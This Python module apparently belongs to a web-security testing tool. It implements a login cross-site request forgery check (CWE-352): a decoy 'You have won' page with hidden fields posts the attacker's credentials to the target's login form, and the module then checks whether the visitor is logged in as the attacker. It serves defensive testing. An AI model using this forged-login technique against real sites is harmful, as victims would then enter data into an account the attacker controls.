"""The attacker's page logs the victim in, as the attacker: what the victim then enters is his.

Oracle: the visitor, who was nobody, is shown the words that only the attacker's own pages show.
"""

from __future__ import annotations

from html import escape
from typing import TYPE_CHECKING

from ringfence.prove.forging import FIX, form_of
from ringfence.prove.stage import (
    Attack,
    Outcome,
    Result,
    Target,
    one_by_one,
    path_of,
    stopped_by_answer,
)

if TYPE_CHECKING:
    from ringfence.prove.discover.survey import Survey
    from ringfence.prove.stage import FormLike, Stage

__all__ = ["ATTACK"]

#: Whose account the attacker has.
_OWN = "user"


def _find(survey: Survey) -> tuple[Target, ...] | str:
    private = next((p.path for p in survey.with_secret() if p.visitor == _OWN and p.is_html), None)
    logins = {
        path_of(found.form.action): found
        for found in survey.forms
        if found.form.method == "post" and _fields(found.form) is not None
    }
    if private is None or not logins:
        return "no log-in form, or no page that tells who is logged in, was found"
    return tuple(
        Target(
            path,
            f"POST {path}",
            visitor="anonymous",
            form=found.form,
            place=found.place,
            data={"private": private},
        )
        for path, found in logins.items()
    )


def _fields(form: FormLike) -> tuple[str, str] | None:
    """Return the names of the fields for the name and the password; None where it is no log-in."""
    passwords = [field.name for field in form.fields if field.kind == "password"]
    names = [field.name for field in form.fields if field.kind in ("text", "email")]
    return (names[0], passwords[0]) if len(passwords) == 1 and len(names) == 1 else None


def _filled(stage: Stage, form: FormLike) -> dict[str, str]:
    name, password = _fields(form) or ("", "")
    return dict(zip((name, password), stage.credentials(_OWN), strict=True))


def _strike(stage: Stage, target: Target) -> Result:
    form = form_of(target)
    stage.become("anonymous", afresh=True)
    values = _filled(stage, form)
    others = {
        f.name: f.value
        for f in form.fields
        if f.kind == "hidden" and f.name != "csrfmiddlewaretoken"
    }
    inputs = "".join(
        f'<input type="hidden" name="{escape(name)}" value="{escape(value)}">'
        for name, value in {**others, **values}.items()
    )
    page = f"""<!doctype html><title>You have won</title>
        <form method="post" action="{escape(form.action)}">{inputs}</form>"""
    mark = stage.mark()
    stage.send(stage.serve(page))
    exchange = stage.request_since(mark, "POST", target.path)
    if _logged_in(stage, target):
        return Result(Outcome.SUCCEEDED, "logged in", "the visitor is logged in as the attacker")
    # There is no session yet that could come along.
    if exchange is not None and not exchange.crashed and exchange.status < 400:
        return Result(Outcome.STOPPED, "nothing changed", f"answered {exchange.status}: nobody")
    if exchange is not None and not exchange.crashed:
        return Result(Outcome.STOPPED, "refused", f"the site refused it with {exchange.status}")
    return stopped_by_answer(exchange, "nothing changed")


def _logged_in(stage: Stage, target: Target) -> bool:
    visit = stage.visit(stage.url(target.data["private"]))
    return stage.secret(_OWN) in visit.text


def _use(stage: Stage, target: Target) -> str | None:
    stage.become("anonymous", afresh=True)
    visit = stage.submit(form_of(target), _filled(stage, form_of(target)))
    if _logged_in(stage, target):
        return None
    return f"the site's own form lets nobody in either ({visit.error or visit.status})"


ATTACK = Attack(
    name="login_forgery",
    title="a log-in that the attacker's page makes the victim do",
    cwe="CWE-352",
    stopped_by=("csrf",),
    find=_find,
    strike=one_by_one(_strike),
    use=_use,
    fix=FIX + ": a log-in changes something, too",
    changes=True,
)
